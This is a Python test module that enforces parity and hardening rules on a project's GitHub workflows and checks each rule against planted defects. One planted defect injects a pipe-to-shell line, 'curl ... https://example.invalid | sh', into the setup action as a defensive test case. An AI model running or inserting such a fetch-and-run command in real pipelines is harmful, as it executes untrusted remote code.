"""The GitHub workflows run exactly what the justfile runs, and nothing else.

The parity rule: every ``run:`` step of every workflow and of the setup action is either
``just <recipe>`` for a recipe that exists, or ``uv sync`` of dependency groups and extras that
exist; the ``check-*`` steps of the Check workflow are exactly the dependencies of ``just check``,
in the same order. Hardening rules ride along: every third-party action is pinned to a full commit
SHA with a version comment, every checkout drops its credentials, no workflow uses
``pull_request_target``, local actions and reusable workflows are referenced the documented way
(``./...``, a local action only after a checkout), and workflows that publish or deploy restore no
cache. The release rules: Publish runs on ``release: published`` only, one run at a time and never
cancelled, after the Check workflow passed on the released commit; it pushes only after
``just image-smoke`` passed, builds with no layer cache from other runs, and moves ``latest`` only
for the repository's latest release. Deploy runs production after staging, with the same steps,
and hands the cluster credentials to the one step that deploys.

The recipes come from ``just --dump --dump-format json`` and the groups from pyproject.toml, so the
test follows whatever justfile the branch has. Each rule is shown to fail on a planted defect in a
temporary copy of ``.github/``, the justfile and pyproject.toml.
"""

import functools
import re
import shlex
import shutil
import tomllib
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from justfile_recipes import read_recipes

ROOT = Path(__file__).resolve().parents[1]
CHECK_WORKFLOW = Path(".github/workflows/check.yml")

PINNED = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(?P<ref>\S+)(?P<rest>.*)$", re.MULTILINE)
VERSION_COMMENT = re.compile(r"^\s+#\s*v\d+(\.\d+){0,2}\s*$")
LOCAL_PREFIX = "./"
# Characters that would turn a step into a shell script rather than one command.
SHELL_SYNTAX = re.compile(r"[;&|<>`\n]|\$\(")
UV_SYNC_FLAGS = {"--locked", "--frozen", "--all-groups", "--all-extras", "--no-default-groups"}
UV_SYNC_OPTIONS = {"--group": "group", "--only-group": "group", "--extra": "extra"}


@dataclass(frozen=True)
class Step:
    """One step of a workflow job or of a composite action."""

    where: str  # "path: job #index", for messages
    run: str | None
    uses: str | None
    with_: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Project:
    """What the parity rules compare the workflows with."""

    recipes: dict[str, Any]
    check_dependencies: list[str]
    groups: set[str]
    extras: set[str]


def _load(path: Path) -> dict[Any, Any]:
    """Parse a YAML file into a mapping (a fresh copy: callers may not share it)."""
    data = deepcopy(_parse(path.read_text(encoding="utf-8")))
    assert isinstance(data, dict), f"{path} is not a YAML mapping"
    return data


@functools.cache
def _parse(text: str) -> object:
    """Parse YAML text once per distinct text, with libyaml.

    The rules read each file several times, and every planted-defect case re-reads the unchanged
    files: with pure-Python PyYAML that parsing took most of this module's seconds.
    """
    return yaml.load(text, Loader=yaml.CSafeLoader)


def _triggers(workflow: dict[Any, Any]) -> dict[Any, Any]:
    """Return a workflow's ``on:`` block (YAML 1.1 reads the bare key ``on`` as ``True``)."""
    raw = workflow.get("on", workflow.get(True, {}))
    if isinstance(raw, str):
        return {raw: None}
    if isinstance(raw, list):
        return dict.fromkeys(raw)
    assert isinstance(raw, dict)
    return raw


def _steps(root: Path, path: Path) -> list[Step]:
    """Every step of a workflow (all jobs, in order) or of a composite action."""
    data = _load(root / path)
    blocks: list[tuple[str, list[dict[str, Any]]]]
    if "jobs" in data:
        blocks = [(name, job.get("steps", [])) for name, job in data["jobs"].items()]
    else:
        blocks = [("(action)", data["runs"].get("steps", []))]
    return [
        Step(
            where=f"{path}: {job} #{index}",
            run=step.get("run"),
            uses=step.get("uses"),
            with_=step.get("with") or {},
        )
        for job, steps in blocks
        for index, step in enumerate(steps, start=1)
    ]


def _github_files(root: Path) -> list[Path]:
    """The workflows and the composite actions, relative to the root."""
    found = [
        *(root / ".github/workflows").glob("*.y*ml"),
        *(root / ".github/actions").rglob("action.y*ml"),
    ]
    return sorted(path.relative_to(root) for path in found)


def _project(root: Path) -> Project:
    """Read the recipes from ``just --dump`` and the groups and extras from pyproject.toml."""
    recipes = read_recipes(root)
    pyproject = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
    return Project(
        recipes=recipes,
        check_dependencies=[dep["recipe"] for dep in recipes["check"]["dependencies"]],
        groups=set(pyproject.get("dependency-groups", {})),
        extras=set(pyproject["project"].get("optional-dependencies", {})),
    )


def _just_problem(words: list[str], project: Project) -> str | None:
    """Why ``just <recipe> [args]`` is not a call of an existing recipe, or None."""
    if len(words) < 2 or words[1].startswith("-"):
        return "calls just without a recipe (or with flags)"
    recipe = project.recipes.get(words[1])
    if recipe is None:
        return f"calls `just {words[1]}`, which the justfile does not define"
    parameters = recipe["parameters"]
    variadic = any(p["kind"] != "singular" for p in parameters)
    if not variadic and len(words) - 2 > len(parameters):
        return (
            f"passes {len(words) - 2} arguments to `just {words[1]}`, which takes {len(parameters)}"
        )
    return None


def _uv_sync_problem(words: list[str], project: Project) -> str | None:
    """Why ``uv sync ...`` names an unknown option, group or extra, or None."""
    args = iter(words[2:])
    for arg in args:
        name, _, value = arg.partition("=")
        if name in UV_SYNC_FLAGS and not value:
            continue
        kind = UV_SYNC_OPTIONS.get(name)
        if kind is None:
            return f"uses `{arg}`, which the parity rule does not allow in `uv sync`"
        value = value or next(args, "")
        known = project.groups if kind == "group" else project.extras
        if value not in known:
            return f"syncs the {kind} `{value}`, which pyproject.toml does not define"
    return None


def _run_problem(command: str, project: Project) -> str | None:
    """Why a ``run:`` step breaks the parity rule, or None when it is fine."""
    command = command.strip()
    if "${{" in command:
        return "expands an expression inside `run:` (pass it through `env:` instead)"
    if SHELL_SYNTAX.search(command):
        return "is a shell script, not one recipe call"
    words = shlex.split(command)
    if words[:1] == ["just"]:
        return _just_problem(words, project)
    if words[:2] == ["uv", "sync"]:
        return _uv_sync_problem(words, project)
    return "is neither `just <recipe>` nor `uv sync`"


def _uses_problem(ref: str) -> str | None:
    """Why a ``uses:`` reference is not pinned to a full commit SHA, or None."""
    if ref.startswith(LOCAL_PREFIX) or PINNED.match(ref):
        return None
    return f"uses `{ref}`, which is not pinned to a full 40-hex commit SHA"


def _version_comment_problems(path: Path, text: str) -> list[str]:
    """Every pinned ``uses:`` line without a ``# vX.Y.Z`` comment (Dependabot keeps it current)."""
    return [
        f"{path}: uses `{line['ref']}` without a `# vX.Y.Z` version comment on the same line"
        for line in USES_LINE.finditer(text)
        if not line["ref"].startswith(LOCAL_PREFIX) and not VERSION_COMMENT.match(line["rest"])
    ]


def _checkout_problem(step: Step) -> str | None:
    """Why a checkout step keeps its credentials, or None."""
    is_checkout = bool(step.uses and step.uses.startswith("actions/checkout@"))
    if is_checkout and step.with_.get("persist-credentials") is not False:
        return "checks out without `persist-credentials: false`"
    return None


def _local_reference_problems(root: Path, path: Path) -> list[str]:
    """Reusable workflows are existing ``./`` files; a local action comes after the checkout."""
    problems = []
    for name, job in _load(root / path).get("jobs", {}).items():
        called = job.get("uses")
        if called is not None and not (
            called.startswith("./.github/workflows/") and (root / called).is_file()
        ):
            problems.append(f"{path}: job {name} calls `{called}`, not a workflow file of its own")
        checked_out = False
        for step in job.get("steps", []):
            uses = str(step.get("uses", ""))
            checked_out |= uses.startswith("actions/checkout@")
            if uses.startswith(LOCAL_PREFIX) and not checked_out:
                problems.append(f"{path}: job {name} uses `{uses}` before checking out the repo")
    return problems


def _needs(job: dict[str, Any]) -> set[str]:
    needs = job.get("needs", [])
    return {needs} if isinstance(needs, str) else set(needs)


def _depends_on(jobs: dict[str, Any], name: str, target: str) -> bool:
    """Whether job ``name`` needs ``target``, directly or through other jobs."""
    return any(
        need == target or _depends_on(jobs, need, target) for need in _needs(jobs.get(name, {}))
    )


PUBLISH = Path(".github/workflows/publish.yml")
DEPLOY = Path(".github/workflows/deploy.yml")


def _no_cache_problems(path: Path, data: dict[str, Any]) -> list[str]:
    """A workflow that publishes or deploys restores no cache written by another run."""
    problems = []
    for name, job in data.get("jobs", {}).items():
        for step in job.get("steps", []):
            options = step.get("with") or {}
            uses = str(step.get("uses", ""))
            if {"cache-from", "cache-to"} & set(options):
                problems.append(f"{path}: job {name} builds with a layer cache ({uses})")
            if uses == "./.github/actions/setup" and str(options.get("enable-cache")) != "false":
                problems.append(f"{path}: job {name} restores the uv cache (enable-cache)")
    return problems


def _publish_problems(root: Path) -> list[str]:
    """The release rules of Publish (the docstring above)."""
    data = _load(root / PUBLISH)
    problems = []
    if _triggers(data) != {"release": {"types": ["published"]}}:
        problems.append(f"{PUBLISH}: must run on `release: types: [published]` only")
    concurrency = data.get("concurrency") or {}
    group = str(concurrency.get("group", "")) if isinstance(concurrency, dict) else ""
    if not group or "github.ref" in group or "github.event" in group or "github.run" in group:
        problems.append(f"{PUBLISH}: needs one concurrency group for every run, not per ref")
    if not isinstance(concurrency, dict) or concurrency.get("cancel-in-progress") is not False:
        problems.append(f"{PUBLISH}: a publishing run must never be cancelled")
    jobs: dict[str, Any] = data["jobs"]
    checks = [
        name for name, job in jobs.items() if job.get("uses") == "./.github/workflows/check.yml"
    ]
    if not checks:
        problems.append(f"{PUBLISH}: does not run the Check workflow on the released commit")
    problems += [
        f"{PUBLISH}: job {name} does not wait for the Check workflow"
        for name in jobs
        if checks and name not in checks and not _depends_on(jobs, name, checks[0])
    ]
    problems += _no_cache_problems(PUBLISH, data)
    for name, job in jobs.items():
        problems += [f"{PUBLISH}: job {name} {p}" for p in _push_problems(job.get("steps", []))]
    return problems


def _push_problems(steps: list[dict[str, Any]]) -> list[str]:
    """In one job: push only after ``just image-smoke``; ``latest`` only for the latest release."""
    problems = []
    smoked = False
    latest_steps = set()
    for step in steps:
        run = str(step.get("run", ""))
        options = step.get("with") or {}
        if run.startswith("just image-smoke"):
            smoked = True
        if run.startswith("just release-is-latest") and "id" in step:
            latest_steps.add(step["id"])
        if "build-push-action" in str(step.get("uses", "")) and options.get("push") is True:
            if not smoked:
                problems.append("pushes an image before `just image-smoke` passed")
            if options.get("sbom") is not True or "mode=max" not in str(options.get("provenance")):
                problems.append("pushes an image without its SBOM and max-mode provenance")
        if "metadata-action" in str(step.get("uses", "")):
            if "latest=false" not in str(options.get("flavor", "")):
                problems.append("lets the metadata action add `latest` on its own (flavor)")
            asked = [f"steps.{step_id}.outputs.latest == 'true'" for step_id in latest_steps]
            problems += [
                "moves `latest` without asking `just release-is-latest`"
                for line in str(options.get("tags", "")).splitlines()
                if "value=latest" in line and not any(condition in line for condition in asked)
            ]
    return problems


def _deploy_problems(root: Path) -> list[str]:
    """Deploy: production after staging with the same steps; credentials in one step only."""
    data = _load(root / DEPLOY)
    jobs: dict[str, Any] = data["jobs"]
    problems = _no_cache_problems(DEPLOY, data)
    staging, production = jobs.get("staging"), jobs.get("production")
    if staging is None or production is None:
        return [*problems, f"{DEPLOY}: needs a staging job and a production job"]
    if "staging" not in _needs(production):
        problems.append(f"{DEPLOY}: production does not wait for staging")
    for name, job in (("staging", staging), ("production", production)):
        environment = job.get("environment") or {}
        if (environment.get("name") if isinstance(environment, dict) else environment) != name:
            problems.append(f"{DEPLOY}: job {name} does not run in the {name} environment")
    same = yaml.safe_dump(staging["steps"]).replace("staging", "production")
    if same != yaml.safe_dump(production["steps"]):
        problems.append(f"{DEPLOY}: production does not run the same steps as staging")
    for name, job in jobs.items():
        for step in job.get("steps", []):
            secret_env = [k for k, v in (step.get("env") or {}).items() if "secrets." in str(v)]
            if secret_env and not str(step.get("run", "")).startswith("just deploy "):
                problems.append(
                    f"{DEPLOY}: job {name} hands {secret_env} to a step that does not deploy"
                )
        # A comparison (is the secret set?) is fine there; the secret's value is not.
        leaked = [
            key
            for key, value in (job.get("env") or {}).items()
            if re.fullmatch(r"\$\{\{\s*secrets\.\w+\s*\}\}", str(value))
        ]
        if leaked:
            problems.append(f"{DEPLOY}: job {name} puts {leaked} in every step's environment")
    return problems


def parity_problems(root: Path) -> list[str]:
    """Every way the ``.github/`` tree under ``root`` breaks the parity and hardening rules."""
    project = _project(root)
    problems: list[str] = []
    for path in _github_files(root):
        text = (root / path).read_text(encoding="utf-8")
        if "workflows" in path.parts and "pull_request_target" in _triggers(_load(root / path)):
            problems.append(f"{path}: triggers on pull_request_target")
        for step in _steps(root, path):
            found = [
                _run_problem(step.run, project) if step.run is not None else None,
                _uses_problem(step.uses) if step.uses is not None else None,
                _checkout_problem(step),
            ]
            problems += [f"{step.where} {problem}" for problem in found if problem]
        problems += _version_comment_problems(path, text)
        if "workflows" in path.parts:
            problems += _local_reference_problems(root, path)

    check_steps = [
        shlex.split(step.run)[1]
        for step in _steps(root, CHECK_WORKFLOW)
        if step.run and step.run.strip().startswith("just check-")
    ]
    if check_steps != project.check_dependencies:
        problems.append(
            f"{CHECK_WORKFLOW} runs {check_steps}, but `just check` runs "
            f"{project.check_dependencies}: same recipes, same order"
        )
    return problems + _publish_problems(root) + _deploy_problems(root)


def test_the_workflows_keep_the_parity_and_hardening_rules() -> None:
    assert parity_problems(ROOT) == []


def test_the_check_workflow_runs_every_check_recipe() -> None:
    # Guards against a vacuous pass: the rule above compares non-empty lists.
    project = _project(ROOT)
    assert project.check_dependencies[0] == "check-code"
    assert "check-workflows" in project.check_dependencies


# ------------------------------------------------------------------ planted defects


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """A throwaway copy of what the parity rules read."""
    shutil.copytree(ROOT / ".github", tmp_path / ".github")
    for name in ("justfile", "pyproject.toml"):
        shutil.copy2(ROOT / name, tmp_path / name)
    return tmp_path


def _edit(path: str, old: str, new: str) -> Callable[[Path], None]:
    def plant(root: Path) -> None:
        target = root / path
        text = target.read_text(encoding="utf-8")
        assert old in text, f"the planted defect no longer applies to {path}: {old!r}"
        target.write_text(text.replace(old, new, 1), encoding="utf-8")

    return plant


CHECK = ".github/workflows/check.yml"
PUBLISH_FILE = str(PUBLISH)
DEPLOY_FILE = str(DEPLOY)
CHECKOUT = (
    "      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n"
    "        with:\n          persist-credentials: false\n"
)
DEFECTS: dict[str, tuple[Callable[[Path], None], str]] = {
    "unknown recipe": (
        _edit(CHECK, "run: just check-code", "run: just check-cod"),
        "does not define",
    ),
    "a shell command": (
        _edit(CHECK, "run: just check-code", "run: uv run ruff check src"),
        "is neither",
    ),
    "a script": (
        _edit(CHECK, "run: just check-code", "run: just check-code && echo done"),
        "shell script",
    ),
    "an expression in run": (
        _edit(CHECK, "run: just check-code", "run: just ${{ github.head_ref }}"),
        "expands an expression",
    ),
    "an unknown group": (
        _edit(CHECK, "run: uv sync --group check", "run: uv sync --group chek"),
        "group `chek`",
    ),
    "too many arguments": (
        _edit(CHECK, "run: just check-type", "run: just check-type src"),
        "passes 1 arguments",
    ),
    "steps out of order": (
        _edit(
            CHECK,
            "- run: just check-code\n      - run: just check-type",
            "- run: just check-type\n      - run: just check-code",
        ),
        "same recipes, same order",
    ),
    "a check missing from the workflow": (
        _edit(CHECK, "      - run: just check-security\n", ""),
        "same recipes, same order",
    ),
    "a check added to the justfile only": (
        _edit(
            "justfile",
            "check-coverage check-workflows",
            "check-coverage check-slow check-workflows",
        ),
        "same recipes, same order",
    ),
    "a tag instead of a SHA": (
        _edit(
            CHECK,
            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1",
            "actions/checkout@v7",
        ),
        "not pinned",
    ),
    "a SHA without its version comment": (
        _edit(
            CHECK,
            "3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
            "3d3c42e5aac5ba805825da76410c181273ba90b1",
        ),
        "version comment",
    ),
    "credentials kept": (
        _edit(CHECK, "persist-credentials: false", "persist-credentials: true"),
        "persist-credentials",
    ),
    "pull_request_target": (
        _edit(CHECK, "  pull_request:\n", "  pull_request_target:\n"),
        "pull_request_target",
    ),
    "a script in the setup action": (
        _edit(
            ".github/actions/setup/action.yml",
            "  steps:\n",
            "  steps:\n    - run: curl -sSf https://example.invalid | sh\n      shell: bash\n",
        ),
        "(action)",
    ),
    # Issue 10: the documented way to reference the setup action.
    "the $/ self-repository syntax": (
        _edit(CHECK, "- uses: ./.github/actions/setup", "- uses: $/.github/actions/setup"),
        "not pinned",
    ),
    "a local action before the checkout": (
        _edit(
            CHECK,
            CHECKOUT + "      - uses: ./.github/actions/setup\n      - run: uv sync",
            "      - uses: ./.github/actions/setup\n      - run: uv sync",
        ),
        "before checking out",
    ),
    # Issue 11, item 6: each fix to Publish, reverted on its own.
    "Publish rebuilds an edited release": (
        _edit(PUBLISH_FILE, "types: [published]", "types: [published, edited]"),
        "`release: types: [published]` only",
    ),
    "Publish runs per ref": (
        _edit(
            PUBLISH_FILE,
            "group: ${{ github.workflow }}\n",
            "group: ${{ github.workflow }}-${{ github.ref }}\n",
        ),
        "not per ref",
    ),
    "Publish can be cancelled": (
        _edit(PUBLISH_FILE, "cancel-in-progress: false", "cancel-in-progress: true"),
        "never be cancelled",
    ),
    "Publish packages without Check": (
        _edit(
            PUBLISH_FILE,
            "    needs: check\n    runs-on: ubuntu-latest\n    timeout-minutes: 30",
            "    runs-on: ubuntu-latest\n    timeout-minutes: 30",
        ),
        "job packages does not wait for the Check workflow",
    ),
    "Publish pushes an image that was not smoke-tested": (
        _edit(PUBLISH_FILE, "      - run: just image-smoke churn-model:smoke\n", ""),
        "before `just image-smoke`",
    ),
    "Publish builds with a shared layer cache": (
        _edit(
            PUBLISH_FILE,
            "          provenance: mode=max\n",
            "          provenance: mode=max\n          cache-from: type=gha\n",
        ),
        "layer cache",
    ),
    "Publish drops the SBOM": (
        _edit(PUBLISH_FILE, "          sbom: true\n", ""),
        "SBOM",
    ),
    "Publish always moves latest": (
        _edit(
            PUBLISH_FILE,
            "type=raw,value=latest,enable=${{ steps.latest.outputs.latest == 'true' }}",
            "type=raw,value=latest",
        ),
        "without asking `just release-is-latest`",
    ),
    "Publish lets the metadata action add latest": (
        _edit(PUBLISH_FILE, "          flavor: |\n            latest=false\n", ""),
        "on its own",
    ),
    # Issue 10: Deploy.
    "production without staging": (
        _edit(DEPLOY_FILE, "    needs: staging\n", ""),
        "production does not wait for staging",
    ),
    "production drifts from staging": (
        _edit(
            DEPLOY_FILE,
            "just deploy-not-configured production",
            "just deploy-not-configured staging",
        ),
        "not run the same steps",
    ),
    "credentials in every step": (
        _edit(
            DEPLOY_FILE,
            "      SERVICE_URL: ${{ vars.SERVICE_URL }}\n",
            "      SERVICE_URL: ${{ vars.SERVICE_URL }}\n"
            "      KUBE_CONFIG: ${{ secrets.KUBE_CONFIG }}\n",
        ),
        "every step's environment",
    ),
    "credentials for the smoke test": (
        _edit(
            DEPLOY_FILE,
            '        run: just smoke "$SERVICE_URL"\n',
            '        run: just smoke "$SERVICE_URL"\n'
            "        env:\n          TOKEN: ${{ secrets.KUBE_CONFIG }}\n",
        ),
        "to a step that does not deploy",
    ),
    "Deploy restores the uv cache": (
        _edit(DEPLOY_FILE, '        with:\n          enable-cache: "false"\n', ""),
        "restores the uv cache",
    ),
}


@pytest.mark.parametrize("defect", DEFECTS)
def test_a_planted_defect_is_reported(defect: str, copy: Path) -> None:
    assert parity_problems(copy) == [], "the copy must start clean"
    plant, evidence = DEFECTS[defect]
    plant(copy)
    problems = parity_problems(copy)
    assert any(evidence in problem for problem in problems), problems
